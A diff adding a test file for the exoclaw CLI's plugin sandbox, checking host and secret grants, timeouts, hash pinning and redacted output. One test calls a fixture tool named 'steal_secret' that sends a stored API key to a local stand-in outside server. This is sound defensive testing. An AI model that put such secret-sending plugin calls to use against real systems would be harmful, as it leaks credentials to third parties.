@@ -1,0 +1,98 @@
+import { describe, expect, test } from "bun:test";
+import { join } from "node:path";
+import { repeated } from "../../src/cli/plugin.ts";
+import { loadConfig, writeCredential } from "../../src/config/index.ts";
+import { runExoclaw, spawnGateway } from "../helpers/cli.ts";
+import { startOutside } from "../helpers/outside.ts";
+import { fixturePath, pluginPath } from "../helpers/plugins.ts";
+import { tempDir } from "../helpers/temp.ts";
+
+const NO_GW = ["--port", "1"];
+
+describe("exoclaw plugin", () => {
+  test("inspect shows kind, tools, wants and sha256 and grants nothing", async () => {
+    using home = tempDir();
+    const r = await runExoclaw(["plugin", "inspect", fixturePath("hostile")], { EXOCLAW_HOME: home.path });
+    expect(r.stderr).toBe("");
+    expect(r.code).toBe(0);
+    expect(r.stdout).toContain("hostile 6.6.6 — tool plugin (ABI 1)");
+    expect(r.stdout).toContain("tools:   spin, grow, big_output");
+    expect(r.stdout).toContain("wants hosts:   *");
+    expect(r.stdout).toContain("wants secrets: everything");
+    expect(r.stdout).toMatch(/sha256: {2}[0-9a-f]{64}/);
+    expect(await Bun.file(join(home.path, "config.toml")).exists()).toBe(false);
+    const j = await runExoclaw(["plugin", "inspect", pluginPath("echo"), "--json"], { EXOCLAW_HOME: home.path });
+    expect(JSON.parse(j.stdout)).toMatchObject({ name: "echo", kind: "tool", abi: 1 });
+  });
+
+  test("inspect refuses what is not a plugin, with one clear line", async () => {
+    using home = tempDir();
+    const notWasm = home.file("evil.wasm", "#!/bin/sh\n");
+    const r = await runExoclaw(["plugin", "inspect", notWasm], { EXOCLAW_HOME: home.path });
+    expect(r).toMatchObject({ code: 1, stderr: "exoclaw: plugin inspect: not a wasm module\n" });
+    const abi = await runExoclaw(["plugin", "inspect", fixturePath("abi2")], { EXOCLAW_HOME: home.path });
+    expect(abi.stderr).toBe("exoclaw: plugin inspect: the plugin declares ABI 2; this exoclaw speaks ABI 1\n");
+  });
+
+  test("load pins and grants, call runs it under exactly those grants, remove forgets it", async () => {
+    using home = tempDir();
+    await using outside = startOutside();
+    const env = { EXOCLAW_HOME: home.path };
+    writeCredential(home.path, "api_key", "sk-cli-secret-999");
+    const load = await runExoclaw(["plugin", "load", fixturePath("hostile"), "--name", "h", "--allow-host", "127.0.0.1", "--allow-host=example.com", "--secret", "api_key", "--timeout-ms", "1000", ...NO_GW], env);
+    expect(load.stderr).toBe("");
+    expect(load.stdout).toContain(`loaded h (tool, sha256`);
+    expect(load.stdout).toContain("granted hosts: 127.0.0.1, example.com; secrets: api_key");
+    expect(load.stdout).toContain("wanted but not granted: *");
+    expect(load.stdout).toContain("no gateway running");
+    const c = loadConfig(env);
+    expect(c.plugins).toEqual([
+      expect.objectContaining({ name: "h", path: "plugins/h.wasm", allowed_hosts: ["127.0.0.1", "example.com"], secrets: ["api_key"], timeout_ms: 1000 }),
+    ]);
+    const fetched = await runExoclaw(["plugin", "call", "h", "steal_secret", JSON.stringify({ arg: `${outside.url}/x`, name: "api_key" })], env);
+    expect(fetched.code).toBe(0);
+    expect(fetched.stdout).toContain("Bearer ***");
+    expect(fetched.stdout).not.toContain("sk-cli-secret-999");
+    expect(outside.requests.at(-1)?.authorization).toBe("Bearer sk-cli-secret-999");
+    const spin = await runExoclaw(["plugin", "call", "h", "spin"], env);
+    expect(spin).toMatchObject({ code: 1, stderr: "exoclaw: plugin h timed out after 1000 ms and was stopped\n" });
+    const list = await runExoclaw(["plugin", "list", ...NO_GW], env);
+    expect(list.stdout).toBe("h  approved\n");
+    const bad = await runExoclaw(["plugin", "call", "h", "count", "{nope"], env);
+    expect(bad.code).toBe(2);
+    const removed = await runExoclaw(["plugin", "remove", "h", ...NO_GW], env);
+    expect(removed.stdout).toContain("removed h from");
+    expect(loadConfig(env).plugins).toEqual([]);
+    expect(await Bun.file(join(home.path, "plugins/h.wasm")).exists()).toBe(false);
+    expect((await runExoclaw(["plugin", "remove", "h", ...NO_GW], env)).code).toBe(1);
+  });
+
+  test("a plugin changed after approval is refused by call and shown in list", async () => {
+    using home = tempDir();
+    const env = { EXOCLAW_HOME: home.path };
+    await runExoclaw(["plugin", "load", pluginPath("echo"), ...NO_GW], env);
+    await Bun.write(join(home.path, "plugins/echo.wasm"), Bun.file(fixturePath("hostile")));
+    const call = await runExoclaw(["plugin", "call", "echo", "echo", '{"text":"x"}'], env);
+    expect(call.code).toBe(1);
+    expect(call.stderr).toMatch(/^exoclaw: plugin echo: .*changed since it was approved/);
+    expect((await runExoclaw(["plugin", "list", ...NO_GW], env)).stdout).toMatch(/^echo {2}error\n {2}plugin echo: .*changed since it was approved/);
+  });
+
+  test("load tells a running gateway, which then lists the plugin", async () => {
+    using home = tempDir();
+    const env = { EXOCLAW_HOME: home.path };
+    await using gw = await spawnGateway(["--port", "0"], env);
+    const load = await runExoclaw(["plugin", "load", pluginPath("echo"), "--port", String(gw.port)], env);
+    expect(load.stdout).toContain(`the running gateway at ws://127.0.0.1:${gw.port}/ws applied it`);
+    const list = await runExoclaw(["plugin", "list", "--port", String(gw.port)], env);
+    expect(list.stdout).toBe("echo  loaded  tool  tools: echo\n");
+    const removed = await runExoclaw(["plugin", "remove", "echo", "--port", String(gw.port)], env);
+    expect(removed.stdout).toContain("applied it");
+    expect((await runExoclaw(["plugin", "list", "--port", String(gw.port)], env)).stdout).toBe("no plugins\n");
+  });
+
+  test("repeated flags keep every value", () => {
+    expect(repeated(["x", "--allow-host", "a", "--allow-host=b", "--name", "n"], "--allow-host")).toEqual(["a", "b"]);
+    expect(() => repeated(["--secret"], "--secret")).toThrow("--secret needs a value");
+  });
+});
